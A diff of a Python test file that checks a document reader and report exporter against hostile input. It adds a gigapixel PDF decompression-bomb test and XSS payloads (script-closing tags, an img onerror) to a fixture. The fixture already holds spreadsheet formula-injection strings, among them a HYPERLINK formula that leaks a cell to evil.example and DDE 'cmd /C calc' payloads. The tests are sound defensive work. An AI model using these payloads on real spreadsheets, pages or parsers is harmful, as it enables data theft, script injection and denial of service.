@@ -1,8 +1,10 @@
 """Hostile documents, made here as small files that expand: each ends as a ReadError, or reads without the
-trap firing; and document text that a spreadsheet would run as a formula is exported as text."""
+trap firing; document text that a spreadsheet would run as a formula is exported as text, and text that
+a browser would run as markup or script stays text in the HTML report."""
 from __future__ import annotations
 
 import csv
+import json
 import os
 import struct
 import zipfile
@@ -37,6 +39,22 @@ def test_a_page_rendering_to_gigapixels_is_refused_on_the_ocr_path():
         pytest.skip("OCR extra not installed")
     data = pdf(b"q 1 0 0 1 0 0 cm Q").replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 60000 60000]")
     with pytest.raises(ReadError, match=r"decompression bomb: page 1 would render to 120000×120000 px"):
+        read_document(data, "x.pdf")
+
+
+def test_a_pdf_picture_decoding_to_gigapixels_is_refused_on_the_ocr_path():
+    """An ordinary page showing one picture 30,000 px square (900 Mpx, 1 bit each, 100 KB deflated): pdfium
+    would decode it whole to draw it small; its declared size refuses it before any rendering."""
+    if not ocr.available():
+        assert os.environ.get("CI") != "true", "the OCR extra is required in CI"
+        pytest.skip("OCR extra not installed")
+    side, z = 30_000, zlib.compressobj(9)
+    stream = b"".join(z.compress(bytes(side // 8 * 1000)) for _ in range(side // 1000)) + z.flush()
+    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 "
+             b"/Filter /FlateDecode /Length %d >>\nstream\n" % (side, side, len(stream)) + stream + b"\nendstream")
+    data = pdf(b"q 495 0 0 742 50 50 cm /Im1 Do Q", b"<< /XObject << /Im1 5 0 R >> >>", [image])
+    assert len(data) < 200_000
+    with pytest.raises(ReadError, match=r"decompression bomb: a picture on page 1 would render to 30000×30000 px"):
         read_document(data, "x.pdf")
 
 
@@ -95,7 +113,8 @@ def test_a_docx_with_external_relationships_fetches_nothing(loopback):  # noqa: 
 
 
 HOSTILE_TEXT = {
-    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"平潭")',
+    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"平潭")</script><script>console.log("PWNED1")</script>'
+              '<img src=x onerror=\'console.log("PWNED2")\'><!--',
     "raw": "+1+cmd|' /C calc'!A0",
     "warning": "@SUM(1+1)*cmd|' /C calc'!A0",
     "source": "-2+3+cmd|' /C calc'!A0",
@@ -146,3 +165,38 @@ def test_xlsx_export_has_no_formula_cell(hostile_db, tmp_path):
     wb = openpyxl.load_workbook(path)
     values = {c.value: c.data_type for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
     assert values[HOSTILE_TEXT["agency"]] == "s"  # the text as printed, a string cell
+
+
+def test_report_keeps_document_text_as_text_in_tables_and_chart_json(hostile_db, tmp_path):
+    """The agency name closes a <script> and opens one of its own, then an <img onerror>: in the page it is
+    text in the tables, the agency menu and the charts' JSON, and no element of its making exists."""
+    from lxml import html as lhtml
+
+    from load.publish.report import write_report
+
+    page = write_report(hostile_db, tmp_path / "report.html")
+    root = lhtml.fromstring(page.read_text(encoding="utf-8"))
+    agency = HOSTILE_TEXT["agency"]
+    assert root.findall(".//img") == [] and root.xpath("//comment()") == []
+    scripts = [s.text or "" for s in root.iter("script")]
+    assert len(scripts) == 6  # plotly's config and library, three charts, the page's own: none of the agency's
+    assert not any(s.startswith("console.log") for s in scripts)
+    assert [o.text for o in root.iter("option") if "PWNED" in (o.text or "")] == [agency]
+    assert agency in [td.text_content() for td in root.iter("td")]
+    trend = next(s for s in scripts if s.startswith("const TREND="))
+    assert "</" not in trend and "<!--" not in trend
+    assert agency in json.JSONDecoder().raw_decode(trend.removeprefix("const TREND="))[0]
+    chart = next(s for s in scripts if "PWNED" in s and "Plotly.newPlot" in s)
+    assert "<" not in chart.split("Plotly.newPlot", 1)[1]  # plotly's own JSON escapes it too
+
+
+def test_report_with_a_hostile_agency_runs_no_script_of_it_in_chromium(hostile_db, tmp_path):
+    from load.publish.report import write_report
+    from test_export_report import chromium, require_chromium
+
+    require_chromium()
+    page = write_report(hostile_db, tmp_path / "report.html")
+    dom, console = chromium(page, tmp_path, "--dump-dom")
+    assert not any("PWNED" in line for line in console), console
+    assert console == []  # the page's own scripts ran to the end: TREND parsed, the agency panel drawn
+    assert 'id="agencychart"' in dom and "main-svg" in dom.split('id="agencychart"', 1)[1][:5000]
